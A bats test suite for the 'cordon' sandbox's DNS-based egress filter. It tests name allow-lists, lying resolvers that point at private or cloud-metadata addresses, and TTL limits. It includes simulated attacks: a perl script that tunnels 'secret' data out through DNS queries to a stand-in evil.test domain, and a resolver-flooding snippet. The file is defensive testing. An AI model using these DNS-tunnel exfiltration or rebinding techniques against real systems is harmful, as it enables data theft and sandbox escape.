#!/usr/bin/env bats
# SPDX-License-Identifier: LGPL-2.1-or-later
# network.egress by name: what the resolver is asked, what it lets a sandbox reach, and what a name
# server that lies gets out of it.

load ../lib/cordon
load ../lib/attack
load ../lib/network
load ../lib/names
load ../lib/egress
load ../lib/zone

# The address that a name has for it; "": none.
finds() { # NAME WHAT EXPECTED
	run cordon exec "$1" getent ahostsv4 "$2"
	[ "$(awk '{ print $1; exit }' <<<"$output")" = "$3" ] || { echo "$1 finds for $2: $output; and not: $3"; return 1; }
}

# bats test_tags=root
@test "only names that are allowed are asked for, and their addresses can be reached from then on" {
	local few
	far
	zone "good.test A 198.51.100.2" "a.sub.test A 198.51.100.3" "bad.test A 198.51.100.3" "sub.test A 198.51.100.3"
	names_are_served
	cordon network create web
	sandbox free web
	sandbox few web '{default: deny, allow: ["GOOD.test:5000-5001", "*.sub.test:5000"]}'
	few=cv$(cordon inspect few | jq -r '.[0].run_id' | cut -c 1-12)
	reaches few "" "198.51.100.2 5000" "198.51.100.3 5000"
	finds few good.test 198.51.100.2
	reaches few "198.51.100.2 5000, 198.51.100.2 5001" "198.51.100.2 5000" "198.51.100.2 5001" "198.51.100.2 5002" "198.51.100.3 5000"
	# A minute at least, whatever the name server says.
	[ "$(nft timeouts inet cordon "$few-name0-4")" = 60000 ]
	# What was not named is not even asked for; the other sandbox is answered.
	finds few bad.test ""
	finds few sub.test ""
	finds few secret.good.test ""
	run -1 was_asked bad.test
	run -1 was_asked sub.test
	run -1 was_asked secret.good.test
	finds free bad.test 198.51.100.3
	was_asked bad.test
	finds few a.sub.test 198.51.100.3
	reaches few "198.51.100.3 5000" "198.51.100.3 5000" "198.51.100.3 5001"
	# Kinds of questions that carry something else.
	run cordon exec few perl -e 'use IO::Socket::IP; my $s = IO::Socket::IP->new(Proto => "udp", PeerHost => "127.0.0.11", PeerPort => 53);
		$s->send(pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . "\4good\4test\0" . pack("nn", 16, 1)); $s->recv(my $a, 999); print ord(substr $a, 3, 1) & 15'
	[ "$output" = 5 ]
	run -1 grep -q "^good.test 16" asked
	# Another name server is as far as anything else.
	reaches few "" "198.51.100.2 53" "198.51.100.2 853"
	reaches free "198.51.100.2 53, 198.51.100.2 853" "198.51.100.2 53" "198.51.100.2 853"
	# When its time is over: what is open goes on, and nothing new is opened.
	on far perl -e 'use IO::Socket::IP; my $s = IO::Socket::IP->new(Listen => 8, LocalHost => "0.0.0.0", LocalPort => 5001) or die;
		my $c = $s->accept; while (<$c>) { print $c "again: $_"; $c->flush }' >/dev/null 2>&1 3>&- &
	hosts+=("$!")
	inside few perl -e 'use IO::Socket::IP; $| = 1; my $s; $s = IO::Socket::IP->new(PeerHost => "198.51.100.2", PeerPort => 5001) or sleep 1 until $s;
		print "open\n"; select undef, undef, undef, 0.1 until -e "expired"; print $s "hello\n"; $s->flush; print scalar <$s>' >went-on 2>&1 3>&- &
	eventually grep -q open went-on
	nft clear inet cordon "$few-name0-4"
	reaches few "" "198.51.100.2 5000"
	touch expired
	eventually grep -q "again: hello" went-on
	finds few good.test 198.51.100.2
	reaches few "198.51.100.2 5000" "198.51.100.2 5000"
}

# bats test_tags=root
@test "a name server that lies: private addresses, somebody else's, and chains of aliases" {
	far
	peer lan 10.50.0.2/24 10.50.0.1
	on lan ip address add 10.50.0.3/24 dev eth0
	peer_serves lan
	names_are_served
	cordon network create web
	sandbox few web '{default: deny, allow: ["good.test:5000", "alias.test:5000", "10.50.0.3:5000"]}'
	sandbox free web
	# It turns to another address: of a private network, the host, a metadata service, a neighbour.
	for ip in 10.50.0.2 127.0.0.1 169.254.169.254 "$(address_of web free)" 0.0.0.0 224.0.0.1 172.17.0.1; do
		zone "good.test A $ip"
		finds few good.test ""
		[ "$ip" = 0.0.0.0 ] || finds free good.test "$ip"
	done
	reaches few "" "10.50.0.2 5000" "169.254.169.254 5000" "$(address_of web free) 5000"
	# One of several is enough.
	zone "good.test A 198.51.100.2" "good.test A 10.50.0.2"
	finds few good.test ""
	reaches few "" "10.50.0.2 5000"
	# A private one that has a rule of its own.
	zone "good.test A 10.50.0.3"
	finds few good.test 10.50.0.3
	reaches few "10.50.0.3 5000" "10.50.0.3 5000" "10.50.0.3 5001"
	# An address of somebody who was not asked for.
	zone "good.test OF victim.test 198.51.100.3"
	finds few good.test ""
	reaches few "" "198.51.100.3 5000"
	# Whoever has the name says where it leads, and what that one is called is not to be asked for.
	zone "alias.test CNAME cdn.elsewhere" "cdn.elsewhere A 198.51.100.3"
	finds few alias.test 198.51.100.3
	reaches few "198.51.100.3 5000" "198.51.100.3 5000"
	finds few cdn.elsewhere ""
	# To a private one it leads nowhere, nor does it in a circle.
	zone "alias.test CNAME cdn.elsewhere" "cdn.elsewhere A 10.50.0.2"
	finds few alias.test ""
	zone "alias.test CNAME cdn.elsewhere" "cdn.elsewhere CNAME alias.test"
	finds few alias.test ""
	# Ten thousand of them.
	{
		printf 'cordon: 1\nextends: default\nnetwork:\n  mode: web\n  egress:\n    default: deny\n    allow:\n'
		perl -e 'printf "      - n%d.many.test:5000\n", $_ for 1 .. 10000'
	} >many.yaml
	zone "n10000.many.test A 198.51.100.2" "n10001.many.test A 198.51.100.2"
	cordon run -d --name many --profile ./many.yaml -- sleep 60
	finds many n10001.many.test ""
	finds many n10000.many.test 198.51.100.2
	reaches many "198.51.100.2 5000" "198.51.100.2 5000" "198.51.100.2 5001"
}

# A resolver that somebody has taken over asks the keeper as often as it can. perl expands it.
# shellcheck disable=SC2016
floods='use Time::HiRes qw(time); my ($pid, $n) = @ARGV; kill "STOP", $pid;
	my $fd = syscall 438, syscall(434, $pid, 0), 5, 0; $fd >= 0 or die "pidfd_getfd: $!"; open my $keeper, "+<&=", $fd or die;
	my ($began, $answer) = time; for (1 .. $n) { syswrite $keeper, pack "LLCa16x3", 9, 60, 0, "x"; sysread($keeper, $answer, 4) == 4 or die "no answer" }
	printf "%d %d\n", unpack("l", $answer), 1000 * (time - $began); kill "CONT", $pid'

# bats test_tags=root
@test "the keeper answers a few hundred questions at once, and then so many a second" {
	local pid home watcher verdict ms
	cordon network create web
	sandbox few web '{default: deny, allow: ["good.test:5000"]}'
	home=$(readlink "/proc/$the_host/ns/net")
	for pid in $(pgrep -x cordon-resolver); do
		[ "$(readlink "/proc/$pid/ns/net")" != "$home" ] || watcher=$pid
	done
	run -0 perl -e "$floods" "$watcher" 400
	read -r verdict ms <<<"$output"
	[ "$verdict" -eq 0 ]
	[ "$ms" -ge 1000 ] || { echo "400 questions within $ms ms"; return 1; }
}

# MS: for so long the address of good.test can be reached once it has been asked for. A little of it is over by then.
stays() { # MS
	local left
	nft clear inet cordon "$few-name0-4"
	reaches few "" "198.51.100.2 5000"
	finds few good.test 198.51.100.2
	reaches few "198.51.100.2 5000" "198.51.100.2 5000"
	left=$(nft timeouts inet cordon "$few-name0-4")
	[ "$left" = "$1" ] || { echo "stays for $left, and not for $1"; return 1; }
}

# bats test_tags=root
@test "an address can be reached for as long as its name says, by the shortest of its chain: a minute at least, and a day at most" {
	local few
	far
	zone "good.test A 198.51.100.2"
	names_are_served
	cordon network create web
	sandbox few web '{default: deny, allow: ["good.test:5000"]}'
	few=cv$(cordon inspect few | jq -r '.[0].run_id' | cut -c 1-12)
	stays 60000
	zone "good.test A 198.51.100.2 300"
	stays 300000
	zone "good.test A 198.51.100.2 2147483647"
	stays 86400000
	zone "good.test CNAME cdn.elsewhere 120" "cdn.elsewhere A 198.51.100.2 9999"
	stays 120000
	zone "good.test CNAME cdn.elsewhere 9999" "cdn.elsewhere CNAME far.elsewhere 5000" "far.elsewhere A 198.51.100.2 100"
	stays 100000
	zone "good.test CNAME cdn.elsewhere" "cdn.elsewhere A 198.51.100.2"
	stays 60000
}

# bats test_tags=root
@test "names that were refused stand in the result, and what was reached for has its name" {
	far
	zone "good.test A 198.51.100.2" "bad.test A 198.51.100.3"
	names_are_served
	cordon network create web
	sandbox few web '{default: deny, allow: ["good.test:5000"]}'
	finds few bad.test ""
	finds few good.test 198.51.100.2
	reaches few "198.51.100.2 5000" "198.51.100.2 5000" "198.51.100.2 5001" "198.51.100.3 5000"
	cordon stop -t 0 few
	cordon inspect few | jq '.[0].result' >report.json
	[ "$(jq -c '[.egress_denials[] | [.address, .port, .name, .rule]] | sort' report.json)" = \
		'[["198.51.100.2",5001,"good.test","good.test:5001"],["198.51.100.3",5000,null,"198.51.100.3:5000"]]' ] || { cat report.json; return 1; }
	[ "$(jq -c '[.egress_names_denied[].name] | unique' report.json)" = '["bad.test"]' ] || { cat report.json; return 1; }
	# In words; a network's own names, and those that nobody asks for, are no denials.
	says 2 '*cordon: denied [1-9]* time*: to look up bad.test: by network.egress; to allow it, add "bad.test:PORT" to network.egress.allow*' \
		cordon run --explain-denials --network web --set 'network.egress={default: deny}' -- getent ahostsv4 bad.test
	run -0 cordon run --explain-denials --network web --set 'network.egress={default: deny}' -- getent ahostsv4 localhost
	[[ "$output" != *"to look up"* ]]
	# Without rules nobody notes what is asked.
	cordon run -q --network web --report report.json -- getent ahostsv4 bad.test
	[ "$(jq -c .egress_names_denied report.json)" = null ]
}

# Questions of a program that wants to get something out: in long names below one that is allowed, below one that is not,
# of all kinds. perl expands it.
# shellcheck disable=SC2016
tunnels='use IO::Socket::IP; my $s = IO::Socket::IP->new(Proto => "udp", PeerHost => "127.0.0.11", PeerPort => 53);
	sub ask { my ($name, $type) = @_; $s->send(pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . join("", map { pack "C/a*", $_ } split /\./, $name) . "\0" . pack "nn", $type, 1);
		my $wait = ""; vec($wait, fileno $s, 1) = 1; select($wait, undef, undef, 5) or return print "nothing\n"; $s->recv(my $r, 2000); print ord(substr $r, 3, 1) & 15, "\n" }
	my $data = join ".", ("secret" . "x" x 57) x 3;
	ask("$data.evil.test", $_) for 1, 28, 16, 10, 5, 255; ask("$data.good.test", $_) for 1, 16; ask("good.test", $_) for 16, 10, 65, 15'

# bats test_tags=root
@test "tunnels by the resolver: neither long names nor other kinds of questions leave" {
	far
	zone "good.test A 198.51.100.2"
	names_are_served
	cordon network create web
	run -0 cordon run -q --network web --set 'network.egress={default: deny, allow: ["good.test:5000"]}' --report report.json -- perl -e "$tunnels"
	[ "$(sort -u <<<"$output")" = 5 ] || { echo "$output"; return 1; }
	[ ! -e asked ] || { cat asked; return 1; }
	[ "$(jq '.egress_names_denied | length' report.json)" = 2 ]
	[ "$(jq '[.egress_names_denied[].count] | add' report.json)" = 8 ]
	# The same program where there are no rules.
	run -0 cordon run -q --network web -- perl -e "$tunnels"
	grep -q "^secret.*evil.test 16$" asked
	grep -q "^secret.*good.test 1$" asked
	grep -q "^good.test 16$" asked
}

# Over the list's end, and no more of the keeper's work.
# bats test_tags=root
@test "a flood of refused names fills its list and no more" {
	far
	names_are_served
	cordon network create web
	# Perl expands it.
	# shellcheck disable=SC2016
	run -0 cordon run -q --network web --set 'network.egress={default: deny}' --report report.json -- perl -e \
		'use IO::Socket::IP; my $s = IO::Socket::IP->new(Proto => "udp", PeerHost => "127.0.0.11", PeerPort => 53);
		for my $n (1 .. 300) { my $name = "n$n"; $s->send(pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . pack("C/a*", $name) . "\4evil\4test\0" . pack "nn", 1, 1); $s->recv(my $r, 999) }'
	[ "$(jq -c '[(.egress_names_denied | length), .egress_names_denied_not_listed]' report.json)" = "[32,268]" ] || { cat report.json; return 1; }
	[ ! -e asked ]
}
